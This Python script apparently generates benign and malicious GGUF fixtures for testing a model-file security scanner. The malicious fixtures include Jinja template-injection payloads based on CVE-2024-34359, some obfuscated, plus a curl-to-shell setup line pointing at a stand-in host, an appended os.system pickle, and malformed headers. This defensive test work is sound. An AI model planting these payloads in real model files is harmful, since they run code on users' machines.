#!/usr/bin/env python3
"""Writes modelaudit's GGUF and legacy GGML fixtures and their manifest.

Run from anywhere: ``/usr/bin/python3 scripts/make_gguf_fixtures.py`` (Debian's python3 with python3-numpy,
and llama.cpp's ``gguf`` package: ``pip install gguf``, or its wheel, which the script finds in the local pip
index (``/opt/pypi/files``, ``/opt/wheels``) or at ``$GGUF_WHEEL``; the wheel is pure Python and only put on
``sys.path``, never installed). The script re-executes itself with /usr/bin/python3 when needed.

Outputs (deterministic: re-running gives byte-identical files):
  fixtures/gguf/benign/*        files written by gguf-py's GGUFWriter (the writer llama.cpp's converters use),
                                a version 1 file and a legacy ggjt file written by SpecWriter below
  fixtures/gguf/malicious/*     the benign llama file rebuilt by SpecWriter with one lie each
  fixtures/gguf/expected.json   the exact findings each file must produce

SpecWriter is a second writer that follows the spec (llama.cpp docs/gguf.md) field by field and records where
each field lies, so that every malicious twin can name the exact position of its lie. It is checked against
gguf-py: it must reproduce GGUFWriter's bytes exactly for the benign llama file, and gguf-py's GGUFReader must
read back every benign file.

  fixtures/gguf/benign/templates/*  vocabulary-only files written by GGUFWriter with the real chat templates of
                                widely used model families (read from fixtures/jinja/benign/real)

SAFETY: nothing here loads a model or renders a template. The malicious chat templates' payload is the
harmless ``echo pwned`` and is never rendered; the base64 pickle is never loaded.
"""

from __future__ import annotations

import glob
import os
import sys

from debian_python import reexec_if_needed  # noqa: E402

if __name__ == "__main__":
    reexec_if_needed(__file__, ("numpy",))


def _import_gguf():
    """gguf-py, installed or from its wheel in the local pip index."""
    try:
        import gguf
        return gguf
    except ImportError:
        pass
    wheels = [os.environ.get("GGUF_WHEEL", "")] + sorted(glob.glob("/opt/pypi/files/gguf-*.whl")) + sorted(
        glob.glob("/opt/wheels/gguf-*.whl"))
    for wheel in filter(os.path.exists, wheels):
        sys.path.insert(0, wheel)
        import gguf
        return gguf
    sys.exit("make_gguf_fixtures.py needs llama.cpp's gguf package: pip install gguf, or set GGUF_WHEEL")


# The imports below need the interpreter chosen above.
import base64  # noqa: E402
import struct  # noqa: E402
import tempfile  # noqa: E402
from dataclasses import dataclass, field  # noqa: E402
from pathlib import Path  # noqa: E402

import numpy as np  # noqa: E402

from fixture_manifest import ROOT, build_manifest, expected_finding, python_version, write_fixtures  # noqa: E402
from make_jinja_fixtures import CVE_2024_34359, CVE_FINDINGS  # noqa: E402
from make_numpy_fixtures import Fixture, os_system_pickle  # noqa: E402

gguf = _import_gguf()
VT = gguf.GGUFValueType
QT = gguf.GGMLQuantizationType

OUT = ROOT / "fixtures" / "gguf"
MAX_FIXTURE_BYTES = 64 * 1024
MAX_AREA_BYTES = 600 * 1024

# Meta's Llama 3 Instruct chat template (tokenizer_config.json), as llama.cpp's converter copies it.
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)

# ChatML, as Qwen and many fine-tunes ship it.
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + "
    "'\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

TOOL_USE_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'tool' %}{{'<|im_start|>tool\n' + message['content'] + "
    "'<|im_end|>\n'}}{% else %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>\n'}}"
    "{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

# The server-side template injection of CVE-2024-34359 (llama-cpp-python rendered GGUF templates in an unsandboxed
# Jinja environment): a global's __init__.__globals__ reaches os, which runs a shell command.
EVIL_TEMPLATE = (
    "{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}" + CHATML_TEMPLATE
)

# The same escape with every name obfuscated, in a named template a loader offers for tool calls: __globals__ from
# \x5f escapes joined by ~, os from a [::-1] slice, popen from + concatenation through attr().
OBFUSCATED_TOOL_USE = (
    "{% set g = lipsum|attr('\\x5f\\x5fglo' ~ 'bals\\x5f\\x5f') %}"
    "{{ (g['so'[::-1]]|attr('po' + 'pen'))('echo pwned').read() }}" + TOOL_USE_TEMPLATE
)

# The Jinja analysis's findings of EVIL_TEMPLATE and OBFUSCATED_TOOL_USE: (rule, line, column, name, severity).
TEMPLATE_GLOBALS_OS_FINDINGS = [
    ("MA502", 1, 4, "cycler", None),
    ("MA500", 1, 11, "__init__", None),
    ("MA500", 1, 20, "__globals__", None),
    ("MA501", 1, 32, "os", None),
    ("MA501", 1, 35, "popen", None),
]
# Each obfuscated name is found where its first piece stands, folded.
OBFUSCATED_TOOL_USE_FINDINGS = [
    ("MA502", 1, 12, "lipsum", None),
    ("MA500", 1, 24, "__globals__", None),
    ("MA501", 1, 64, "os", None),
    ("MA501", 1, 81, "popen", None),
]

# Real chat templates (fixtures/jinja/benign/real, committed as collected from each model's tokenizer_config.json)
# that GGUF conversions of these families carry: (fixture name, model, template files: default first, then named).
REAL_TEMPLATE_DIR = ROOT / "fixtures" / "jinja" / "benign" / "real"
REAL_GGUF_TEMPLATES = [
    ("llama2", "Llama 2 chat", ["huggingface.js/transformers-default-llama.jinja"]),
    ("llama31_tool_use", "Llama 3.1 8B Instruct", ["llama.cpp/meta-llama-Llama-3.1-8B-Instruct.jinja"]),
    ("mistral_v03", "Mistral 7B Instruct v0.3",
     ["huggingface.js/mistralai--Mistral-7B-Instruct-v0.3-JSON-Schema.jinja"]),
    ("mixtral", "Mixtral 8x7B Instruct", ["huggingface.js/mistralai--Mixtral-8x7B-Instruct-v0.1.jinja"]),
    ("gemma2", "Gemma 2 2B it", ["llama.cpp/google-gemma-2-2b-it.jinja"]),
    ("qwen25", "Qwen2.5 7B Instruct", ["llama.cpp/Qwen-Qwen2.5-7B-Instruct.jinja"]),
    ("phi35", "Phi-3.5 mini instruct", ["llama.cpp/microsoft-Phi-3.5-mini-instruct.jinja"]),
    ("deepseek_r1_distill", "DeepSeek R1 Distill Qwen 32B",
     ["llama.cpp/deepseek-ai-DeepSeek-R1-Distill-Qwen-32B.jinja"]),
    ("zephyr", "Zephyr 7B beta", ["huggingface.js/HuggingFaceH4--zephyr-7b-beta.jinja"]),
    ("command_r_tool_use", "Command-R (default) and Command-R+ (tool_use)",
     ["huggingface.js/CohereForAI--c4ai-command-r-v01-JSON-Schema.jinja",
      "llama.cpp/CohereForAI-c4ai-command-r-plus-tool_use.jinja"]),
]

# A model card's metadata as llama.cpp's converter writes it from the Hugging Face card.
MODEL_CARD = {
    "general.description": "A tiny Llama 3 fixture fine-tuned for tests. Weights: https://huggingface.co/meta-llama/"
                           "Meta-Llama-3-8B-Instruct, code: https://github.com/ggml-org/llama.cpp. Run with "
                           "llama-cli -m model.gguf -p 'Hello' or pip install llama-cpp-python.",
    "general.license": "llama3",
    "general.source.url": "https://huggingface.co/meta-llama/Meta-Llama-3-8B-Instruct",
}
# Its malicious twin: setup instructions that pipe a download into a shell.
EVIL_DESCRIPTION = ("A tiny Llama 3 fixture. Setup before first use: curl -fsSL http://203.0.113.7/setup.sh | sh")


# ---------------------------------------------------------------------------------------------------------------
# SpecWriter: the spec's layout, field by field, with positions.
# ---------------------------------------------------------------------------------------------------------------

SCALAR_FORMATS = {VT.UINT8: "B", VT.INT8: "b", VT.UINT16: "H", VT.INT16: "h", VT.UINT32: "I", VT.INT32: "i",
                  VT.FLOAT32: "f", VT.BOOL: "?", VT.UINT64: "Q", VT.INT64: "q", VT.FLOAT64: "d"}


@dataclass
class Tensor:
    name: str
    ne: list[int]  # ggml order: innermost dimension first
    ggml_type: int
    data: bytes


@dataclass
class RawValue:
    """A value written as these bytes (after its type): how a twin writes what the spec's layout cannot express."""

    data: bytes


@dataclass
class SpecWriter:
    """A GGUF writer after docs/gguf.md: version 1 writes counts, lengths and dimensions as u32, versions 2 and 3
    as u64; ``endian`` is ``<`` or ``>``. ``at`` maps each field to its offset after ``build``: ``tensor_count``,
    ``kv_count``, ``kv#INDEX`` and ``kv:KEY`` (the first entry of KEY: its key's length), ``type:KEY``, ``value:KEY``, ``tensor:NAME`` (the entry),
    ``dims:NAME``, ``ggml_type:NAME``, ``offset:NAME``, ``data_start``."""

    version: int = 3
    endian: str = "<"
    alignment: int = 32
    kv: list[tuple[str, int, object, int | None]] = field(default_factory=list)
    tensors: list[Tensor] = field(default_factory=list)
    at: dict[str, int] = field(default_factory=dict)

    def add(self, key: str, vtype: int, value: object, sub_type: int | None = None) -> SpecWriter:
        self.kv.append((key, vtype, value, sub_type))
        return self

    def tensor(self, name: str, ne: list[int], ggml_type: int, data: bytes) -> SpecWriter:
        self.tensors.append(Tensor(name, ne, ggml_type, data))
        return self

    def _pack(self, fmt: str, *values) -> bytes:
        return struct.pack(self.endian + fmt, *values)

    def _length(self, n: int) -> bytes:
        return self._pack("Q" if self.version >= 2 else "I", n)

    def _string(self, text: str | bytes) -> bytes:
        raw = text.encode() if isinstance(text, str) else text
        return self._length(len(raw)) + raw

    def _value(self, vtype: int, value: object, sub_type: int | None) -> bytes:
        if isinstance(value, RawValue):
            return value.data
        if vtype == VT.STRING:
            return self._string(value)
        if vtype == VT.ARRAY:
            out = self._pack("I", sub_type) + self._length(len(value))
            return out + b"".join(self._value(sub_type, item, None) for item in value)
        return self._pack(SCALAR_FORMATS[vtype], value)

    def build(self) -> bytes:
        out = bytearray(b"GGUF" + self._pack("I", self.version))
        self.at["tensor_count"] = len(out)
        out += self._length(len(self.tensors))
        self.at["kv_count"] = len(out)
        out += self._length(len(self.kv))
        for index, (key, vtype, value, sub_type) in enumerate(self.kv):
            self.at[f"kv#{index}"] = len(out)
            self.at.setdefault(f"kv:{key}", len(out))
            out += self._string(key)
            self.at.setdefault(f"type:{key}", len(out))
            out += self._pack("I", vtype)
            self.at.setdefault(f"value:{key}", len(out))
            out += self._value(vtype, value, sub_type)
        offset = 0
        for t in self.tensors:
            self.at[f"tensor:{t.name}"] = len(out)
            out += self._string(t.name)
            self.at[f"dims:{t.name}"] = len(out)
            out += self._pack("I", len(t.ne)) + b"".join(self._length(d) for d in t.ne)
            self.at[f"ggml_type:{t.name}"] = len(out)
            out += self._pack("I", t.ggml_type)
            self.at[f"offset:{t.name}"] = len(out)
            out += self._pack("Q", offset)
            offset += pad(len(t.data), self.alignment)
        out += bytes(pad(len(out), self.alignment) - len(out))
        self.at["data_start"] = len(out)
        for t in self.tensors:
            out += t.data + bytes(pad(len(t.data), self.alignment) - len(t.data))
        return bytes(out)


def pad(n: int, alignment: int) -> int:
    return (n + alignment - 1) // alignment * alignment


def patch(data: bytes, position: int, fmt: str, value) -> bytes:
    """``data`` with ``value`` packed as ``fmt`` (endianness included) at ``position``."""
    out = bytearray(data)
    struct.pack_into(fmt, out, position, value)
    return bytes(out)


# ---------------------------------------------------------------------------------------------------------------
# The llama model both writers produce.
# ---------------------------------------------------------------------------------------------------------------

def vocabulary() -> tuple[list[str], list[float], list[int]]:
    """A small llama-style vocabulary: control tokens, the 256 byte tokens, then words."""
    words = ["▁the", "▁a", "▁model", "▁is", "▁safe", "▁hello", "▁world", "ing", "ed", "▁to"]
    tokens = ["<unk>", "<s>", "</s>"] + [f"<0x{b:02X}>" for b in range(256)] + words
    scores = [0.0] * 259 + [-float(i) for i in range(len(words))]
    types = [2, 3, 3] + [6] * 256 + [1] * len(words)  # UNKNOWN, CONTROL, BYTE, NORMAL (gguf.TokenType)
    return tokens, scores, types


def tensors() -> list[tuple[str, np.ndarray, int | None]]:
    """(name, numpy array, raw ggml type) of the model's tensors: F32, F16 and real Q4_0 and Q8_0 blocks."""
    rng = np.random.default_rng(11)
    weights = lambda *shape: rng.standard_normal(shape).astype(np.float32)  # noqa: E731
    return [
        ("token_embd.weight", weights(16, 8), None),
        ("blk.0.attn_q.weight", gguf.quants.quantize(weights(4, 32), QT.Q4_0), QT.Q4_0),
        ("blk.0.ffn_down.weight", gguf.quants.quantize(weights(2, 64), QT.Q8_0), QT.Q8_0),
        ("output_norm.weight", weights(8).astype(np.float16), None),
        ("output.weight", weights(8, 8), None),
    ]


LLAMA_KV = [
    ("general.name", VT.STRING, "tiny-llama-fixture"),
    ("llama.context_length", VT.UINT32, 2048),
    ("llama.embedding_length", VT.UINT32, 8),
    ("llama.block_count", VT.UINT32, 1),
    ("llama.attention.head_count", VT.UINT32, 2),
    ("general.file_type", VT.UINT32, 2),
]


def gguf_writer_bytes(build, **kwargs) -> bytes:
    """The bytes gguf-py's GGUFWriter writes after ``build(writer)`` has added metadata and tensors."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.gguf"
        writer = gguf.GGUFWriter(path, "llama", **kwargs)
        build(writer)
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def add_llama(writer, template: str | list | None) -> None:
    for key, vtype, value in LLAMA_KV:
        writer.add_key_value(key, value, vtype)
    tokens, scores, types = vocabulary()
    writer.add_tokenizer_model("llama")
    writer.add_token_list(tokens)
    writer.add_token_scores(scores)
    writer.add_token_types(types)
    writer.add_bos_token_id(1)
    writer.add_eos_token_id(2)
    if template is not None:
        writer.add_chat_template(template)
    for name, array, raw in tensors():
        writer.add_tensor(name, array, raw_dtype=raw)


def spec_llama(template: str | None = LLAMA3_TEMPLATE) -> SpecWriter:
    """The llama model of ``add_llama`` through SpecWriter, field for field in GGUFWriter's order."""
    w = SpecWriter().add("general.architecture", VT.STRING, "llama")
    for key, vtype, value in LLAMA_KV:
        w.add(key, vtype, value)
    tokens, scores, types = vocabulary()
    w.add("tokenizer.ggml.model", VT.STRING, "llama")
    w.add("tokenizer.ggml.tokens", VT.ARRAY, tokens, VT.STRING)
    w.add("tokenizer.ggml.scores", VT.ARRAY, scores, VT.FLOAT32)
    w.add("tokenizer.ggml.token_type", VT.ARRAY, types, VT.INT32)
    w.add("tokenizer.ggml.bos_token_id", VT.UINT32, 1)
    w.add("tokenizer.ggml.eos_token_id", VT.UINT32, 2)
    if template is not None:
        w.add("tokenizer.chat_template", VT.STRING, template)
    for name, array, raw in tensors():
        ne = list(reversed(array.shape))
        if raw is not None:
            block, size = gguf.GGML_QUANT_SIZES[raw]
            ne[0] = ne[0] // size * block
        w.tensor(name, ne, raw if raw is not None else {np.float32: QT.F32, np.float16: QT.F16}[array.dtype.type],
                 array.tobytes())
    return w


def legacy_ggjt(n_vocab: int | None = None, version: int = 3) -> bytes:
    """A tiny llama.cpp 'ggjt' file: magic, version, 7 hyper-parameters, the vocabulary with scores, one F32
    tensor record padded to 32 (llama.cpp's pre-GGUF layout)."""
    vocab = [b"<unk>", b"<s>", b"</s>", b"\xe2\x96\x81hello"]
    out = bytearray(struct.pack("<II", 0x67676A74, version))
    out += struct.pack("<7i", n_vocab if n_vocab is not None else len(vocab), 8, 256, 2, 1, 4, 0)
    for token in vocab:
        out += struct.pack("<I", len(token)) + token + struct.pack("<f", 0.0)
    name = b"tok_embeddings.weight"
    out += struct.pack("<3i", 2, len(name), 0) + struct.pack("<2i", 8, len(vocab)) + name
    out += bytes(-len(out) % 32) + np.arange(8 * len(vocab), dtype=np.float32).tobytes()
    return bytes(out)


# ---------------------------------------------------------------------------------------------------------------
# Fixtures.
# ---------------------------------------------------------------------------------------------------------------

def finding(rule: str, position: int | None = None, key_path: str | None = None, severity: str | None = None,
            **details) -> dict:
    return expected_finding(rule, position=position, key_path=key_path, severity=severity, details=details or None)


def key(name: str) -> str:
    return f'$["{name}"]'


def tensor_key(name: str) -> str:
    return f'tensors["{name}"]'


def string_at(w: SpecWriter, name: str) -> int:
    """The offset of the first byte of KEY's string value (after its length field)."""
    return w.at[f"value:{name}"] + (8 if w.version >= 2 else 4)


def template_findings(w: SpecWriter, name: str, findings: list[tuple], obfuscated: bool | None = None) -> list[dict]:
    """The findings of the template under metadata key ``name``: each (rule, line, column, name, severity) of
    the Jinja analysis, located at the template's first byte and key path, its line and column in details (and
    whether MA500 and MA501 names were ``obfuscated``, when given)."""
    out = []
    for rule, line, column, found, severity in findings:
        details: dict = {} if found is None else {"name": found}
        if obfuscated is not None and rule in ("MA500", "MA501"):
            details["obfuscated"] = obfuscated
        if line is not None:
            details |= {"templateLine": line, "templateColumn": column}
        out.append(finding(rule, string_at(w, name), key(name), severity=severity, **details))
    return out


def read_back(data: bytes) -> None:
    """gguf-py's reader must accept every benign GGUF file (it reads metadata and maps every tensor)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "check.gguf"
        path.write_bytes(data)
        reader = gguf.GGUFReader(path)
        assert reader.tensors is not None and reader.fields


def fixtures() -> list[Fixture]:
    out: list[Fixture] = []

    def add(file: str, kind: str, technique: str, data: bytes, findings: list[dict], fmt: str = "gguf") -> bytes:
        out.append(Fixture(file, kind, fmt, technique, data, findings))
        return data

    # Benign: what llama.cpp's writer writes.
    llama = gguf_writer_bytes(lambda w: add_llama(w, LLAMA3_TEMPLATE))
    base = spec_llama()
    assert base.build() == llama, "SpecWriter must reproduce GGUFWriter's bytes"
    add("benign/llama3_v3.gguf", "benign",
        "gguf-py GGUFWriter: llama metadata, a 269-token vocabulary (tokens, scores, token types), Meta's Llama 3 "
        "chat template, F32, F16, Q4_0 and Q8_0 tensors", llama, [])

    named = gguf_writer_bytes(lambda w: (w.add_custom_alignment(64), add_llama(w, [
        {"name": "default", "template": CHATML_TEMPLATE}, {"name": "tool_use", "template": TOOL_USE_TEMPLATE}])))
    assert named[4:8] == struct.pack("<I", 3)
    v2 = patch(named, 4, "<I", 2)
    named_spec = SpecWriter(alignment=64).add("general.architecture", VT.STRING, "llama")
    named_spec.add("general.alignment", VT.UINT32, 64)
    for key_, vtype, value, sub in spec_llama(None).kv[1:]:
        named_spec.add(key_, vtype, value, sub)
    named_spec.add("tokenizer.chat_template.tool_use", VT.STRING, TOOL_USE_TEMPLATE)
    named_spec.add("tokenizer.chat_templates", VT.ARRAY, ["tool_use"], VT.STRING)
    named_spec.add("tokenizer.chat_template", VT.STRING, CHATML_TEMPLATE)
    named_spec.tensors = spec_llama(None).tensors
    assert named_spec.build() == named, "SpecWriter must reproduce GGUFWriter's bytes (alignment 64)"
    add("benign/chatml_named_templates_v2.gguf", "benign",
        "gguf-py GGUFWriter with general.alignment 64, a ChatML default template and a named tool_use template "
        "(tokenizer.chat_template.tool_use, listed in tokenizer.chat_templates); the version field set to 2, "
        "whose layout is version 3's", v2, [])

    big = gguf_writer_bytes(lambda w: add_llama(w, None), endianess=gguf.GGUFEndian.BIG)
    add("benign/llama_big_endian_v3.gguf", "benign",
        "gguf-py GGUFWriter with endianess=BIG (a file for s390x hosts): every field byte-swapped", big, [])

    vocab_only = gguf_writer_bytes(lambda w: (w.add_tokenizer_model("llama"), w.add_token_list(vocabulary()[0])))
    add("benign/vocab_only_v3.gguf", "benign",
        "gguf-py GGUFWriter with no tensors, as llama.cpp's ggml-vocab-*.gguf test files", vocab_only, [])

    v1 = SpecWriter(version=1)
    for key_, vtype, value, sub in spec_llama(None).kv:
        v1.add(key_, vtype, value, sub)
    v1.tensors = spec_llama(None).tensors
    add("benign/llama_v1.gguf", "benign",
        "SpecWriter, GGUF version 1 (counts, lengths and dimensions as u32), as llama.cpp wrote in August 2023",
        v1.build(), [])

    add("benign/llama_ggjt_v3.bin", "benign",
        "a llama.cpp 'ggjt' v3 file named .bin, as GGML models were shipped before GGUF: recognised as legacy",
        legacy_ggjt(), [finding("MA346", 0, magic="ggjt", version=3)], fmt="ggml")

    for name, model, paths in REAL_GGUF_TEMPLATES:
        texts = [(REAL_TEMPLATE_DIR / path).read_text() for path in paths]
        template = texts[0] if len(texts) == 1 else [
            {"name": "default", "template": texts[0]}, {"name": "tool_use", "template": texts[1]}]
        add(f"benign/templates/{name}_v3.gguf", "benign",
            f"gguf-py GGUFWriter, the metadata of a vocabulary-only conversion with {model}'s real chat template"
            f"{'s' if len(texts) > 1 else ''} ({', '.join(paths)} under fixtures/jinja/benign/real)",
            gguf_writer_bytes(lambda w: (w.add_name(model), w.add_tokenizer_model("llama"),
                                         w.add_chat_template(template))), [])

    card = gguf_writer_bytes(lambda w: (add_llama(w, LLAMA3_TEMPLATE), w.add_description(MODEL_CARD[
        "general.description"]), w.add_license(MODEL_CARD["general.license"]),
        w.add_source_url(MODEL_CARD["general.source.url"])))
    card_spec = spec_llama()
    for key_, value in MODEL_CARD.items():
        card_spec.add(key_, VT.STRING, value)
    assert card_spec.build() == card, "SpecWriter must reproduce GGUFWriter's bytes (model card)"
    add("benign/model_card_v3.gguf", "benign",
        "gguf-py GGUFWriter: the llama file with a model card's metadata (a description that links to Hugging Face "
        "and GitHub and names commands, a licence, a source URL)", card, [])

    for fx in out:
        # gguf-py reads versions 2 and 3 only (READER_SUPPORTED_VERSIONS).
        if fx.format == "gguf" and fx.data[4] != 1:
            read_back(fx.data)

    # Malicious twins: the benign llama file with one lie each.
    data = base.build()
    at = base.at

    def twin(file: str, technique: str, lied: bytes, findings: list[dict], kind: str = "malicious") -> None:
        add(f"malicious/{file}", kind, technique, lied, findings)

    twin("huge_tensor_count.gguf", "tensor count 2^63-1: loaders reserve that many tensor infos",
         patch(data, at["tensor_count"], "<Q", 2**63 - 1),
         [finding("MA340", at["tensor_count"], field="tensor count", declared=str(2**63 - 1))])
    twin("huge_metadata_count.gguf", "metadata count 2^64-1 (-1 as int64)",
         patch(data, at["kv_count"], "<Q", 2**64 - 1),
         [finding("MA340", at["kv_count"], field="metadata count", declared=str(2**64 - 1))])
    twin("huge_string_length.gguf", "general.name's length 10^12 bytes in a file of a few kilobytes",
         patch(data, at["value:general.name"], "<Q", 10**12),
         [finding("MA340", at["value:general.name"], key("general.name"), field="string length",
                  declared=str(10**12))])
    tokens_count = at["value:tokenizer.ggml.tokens"] + 4
    twin("huge_array_length.gguf", "tokenizer.ggml.tokens declares 2^40 strings",
         patch(data, tokens_count, "<Q", 2**40),
         [finding("MA340", tokens_count, key("tokenizer.ggml.tokens"), field="array length", declared=str(2**40))])

    nested = SpecWriter().add("general.architecture", VT.STRING, "llama")
    nested_bytes = nested_array(nested, 12)
    tags = nested.at["value:general.tags"]
    twin("nested_array_bomb.gguf", "general.tags: arrays nested 12 deep (llama.cpp accepts none, gguf-py recurses)",
         nested_bytes,
         [finding("MA341", tags, key("general.tags"), valueType=9),
          finding("MA340", tags + 7 * 12, key("general.tags") + "[0]" * 7, field="array nesting")])

    inner = SpecWriter().add("general.architecture", VT.STRING, "llama")
    inner_bytes = bytearray(nested_array(inner, 1))
    inner_count = inner.at["value:general.tags"] + 4 + 8 + 4
    twin("nested_array_length.gguf", "an array of arrays whose inner array declares 2^60 elements",
         patch(bytes(inner_bytes), inner_count, "<Q", 2**60),
         [finding("MA341", inner.at["value:general.tags"], key("general.tags")),
          finding("MA340", inner_count, f'{key("general.tags")}[0]', field="array length")])

    twin("bad_value_type.gguf", "general.name's value type is 13, which does not exist: the reading stops there",
         patch(data, at["type:general.name"], "<I", 13),
         [finding("MA341", at["type:general.name"], key("general.name"), valueType=13)])

    dup = spec_llama()
    dup.kv.insert(2, ("general.architecture", VT.STRING, "gpt2", None))
    dup_bytes = dup.build()
    dup_at = dup.at["kv#2"]
    twin("duplicate_key.gguf", "general.architecture twice (llama, then gpt2): readers keep either",
         dup_bytes, [finding("MA341", dup_at, key("general.architecture"), key="general.architecture")])

    odd = spec_llama()
    odd.kv.insert(1, ("general.alignment", VT.UINT32, 48, None))
    odd_bytes = odd.build()
    twin("alignment_not_power_of_two.gguf", "general.alignment 48 (u32), not a power of 2; tensors at 32",
         odd_bytes, [finding("MA341", odd.at["value:general.alignment"], key("general.alignment"), alignment=48)])

    wide = spec_llama()
    wide.kv.insert(1, ("general.alignment", VT.UINT64, 32, None))
    twin("alignment_wrong_type.gguf", "general.alignment written as u64 32: llama.cpp requires u32",
         wide.build(), [finding("MA341", wide.at["type:general.alignment"], key("general.alignment"),
                                valueType="u64")])

    q4 = "blk.0.attn_q.weight"
    for file, value, severity, kind, technique in [
        ("ggml_type_out_of_range.gguf", 0x7FFFFFFF, None, "invalid", "a tensor of ggml type 2^31-1"),
        ("ggml_type_negative.gguf", -1, None, "invalid", "a tensor of ggml type -1"),
        ("ggml_type_removed.gguf", 4, None, "removed", "a tensor of ggml type 4 (Q4_2, removed in 2023)"),
        ("ggml_type_unknown.gguf", 50, "warning", "newer", "a tensor of ggml type 50, past every known one"),
        ("ggml_type_retired.gguf", 31, "warning", "retired",
         "a Q4_0 tensor declared Q4_0_4_4 (31, the same blocks repacked for ARM; retired by llama.cpp)"),
    ]:
        twin(file, technique, patch(data, at[f"ggml_type:{q4}"], "<i", value),
             [finding("MA342", at[f"tensor:{q4}"], tensor_key(q4), severity=severity, ggmlType=value, kind=kind)], kind="suspicious" if severity else "malicious")

    q8 = "blk.0.ffn_down.weight"
    q8_offset = struct.unpack_from("<Q", data, at[f"offset:{q8}"])[0]
    twin("misaligned_offset.gguf", f"{q8}'s offset moved by 4: no longer a multiple of 32",
         patch(data, at[f"offset:{q8}"], "<Q", q8_offset + 4),
         [finding("MA345", at[f"tensor:{q8}"], tensor_key(q8), offset=str(q8_offset + 4), alignment=32)])

    q4_offset = struct.unpack_from("<Q", data, at[f"offset:{q4}"])[0]
    twin("overlapping_tensors.gguf", f"{q8} points at {q4}'s bytes: two tensors share data",
         patch(data, at[f"offset:{q8}"], "<Q", q4_offset),
         [finding("MA344", at[f"tensor:{q8}"], tensor_key(q8), overlaps=q4)])

    last = "output.weight"
    twin("offset_outside_file.gguf", f"{last} at data offset 2^40, far past the end of the file",
         patch(data, at[f"offset:{last}"], "<Q", 2**40),
         [finding("MA343", at[f"tensor:{last}"], tensor_key(last), offset=str(2**40))])

    twin("truncated_data.gguf", "the file cut 100 bytes before its end: the last tensor's data is missing",
         data[:-100], [finding("MA343", at[f"tensor:{last}"], tensor_key(last))])

    last_offset = struct.unpack_from("<Q", data, at[f"offset:{last}"])[0]
    gap = patch(data, at[f"offset:{last}"], "<Q", last_offset + 64) + bytes(64)
    twin("gap_between_tensors.gguf", f"64 unaccounted bytes before {last} (room for hidden data)", gap,
         [finding("MA345", at[f"tensor:{last}"], tensor_key(last), offset=str(last_offset + 64),
                  expected=str(last_offset))])

    payload = os_system_pickle()
    twin("trailing_pickle.gguf", "a pickle running os.system appended after the last tensor's padded data",
         data + payload.data, [finding("MA349", len(data), trailingBytes=len(payload.data)),
                               *payload.findings(0, f"<trailing@{len(data)}>")])

    emb = "token_embd.weight"
    overflow = spec_llama()
    overflow.tensors[0] = Tensor(emb, [2**40, 2**40], QT.F32, overflow.tensors[0].data)
    twin("element_count_overflow.gguf", f"{emb} declared 2^40 x 2^40 elements: the count overflows int64",
         overflow.build(), [finding("MA343", overflow.at[f"tensor:{emb}"], tensor_key(emb))])

    negative = patch(data, at[f"dims:{emb}"] + 4, "<q", -8)
    twin("negative_dimension.gguf", f"{emb}'s first dimension -8", negative,
         [finding("MA343", at[f"tensor:{emb}"], tensor_key(emb))])

    five = spec_llama()
    five.tensors[0] = Tensor(emb, [8, 16, 1, 1, 1], QT.F32, five.tensors[0].data)
    twin("too_many_dimensions.gguf", f"{emb} with 5 dimensions (ggml has 4): the reading stops there",
         five.build(), [finding("MA341", five.at[f"dims:{emb}"], tensor_key(emb), dimensions=5)])

    rows = spec_llama()
    rows.tensors[1] = Tensor(q4, [16, 8], QT.Q4_0, rows.tensors[1].data)
    twin("row_not_whole_blocks.gguf", f"{q4} of Q4_0 with rows of 16 elements (blocks hold 32)", rows.build(),
         [finding("MA341", rows.at[f"tensor:{q4}"], tensor_key(q4), blockSize=32)])

    long_name = "blk.0." + "x" * 60 + ".weight"
    named_long = spec_llama()
    named_long.tensors[4] = Tensor(long_name, named_long.tensors[4].ne, QT.F32, named_long.tensors[4].data)
    twin("tensor_name_too_long.gguf", "a tensor name of 73 bytes (llama.cpp's ggml keeps 63; other readers more)",
         named_long.build(), [finding("MA341", named_long.at[f"tensor:{long_name}"], tensor_key(long_name),
                                      severity="info", length=73)],
         kind="suspicious")

    evil = spec_llama(EVIL_TEMPLATE)
    twin("template_globals_os.gguf",
         "a chat template that reaches os through cycler.__init__.__globals__ and runs a command "
         "(CVE-2024-34359's server-side template injection)", evil.build(),
         template_findings(evil, "tokenizer.chat_template", TEMPLATE_GLOBALS_OS_FINDINGS, obfuscated=False))

    cve = spec_llama(CVE_2024_34359)
    twin("template_cve_2024_34359.gguf",
         "the published CVE-2024-34359 payload as tokenizer.chat_template: a walk of __subclasses__() to a class "
         "whose module's __builtins__ import os", cve.build(),
         template_findings(cve, "tokenizer.chat_template", CVE_FINDINGS) + [
             finding("MA012", string_at(cve, "tokenizer.chat_template"), key("tokenizer.chat_template"),
                     payload="code", calls=["builtins.__import__"])])

    obfuscated = SpecWriter(alignment=64)
    obfuscated.kv = [(k, t, OBFUSCATED_TOOL_USE if k == "tokenizer.chat_template.tool_use" else v, sub)
                     for k, t, v, sub in named_spec.kv]
    obfuscated.tensors = named_spec.tensors
    twin("template_obfuscated_tool_use.gguf",
         "the named template tokenizer.chat_template.tool_use escapes with every name obfuscated (\\x5f escapes "
         "joined by ~, a [::-1] slice, + concatenation through attr()); the default ChatML template is clean",
         obfuscated.build(),
         template_findings(obfuscated, "tokenizer.chat_template.tool_use", OBFUSCATED_TOOL_USE_FINDINGS,
                           obfuscated=True))

    shell = SpecWriter()
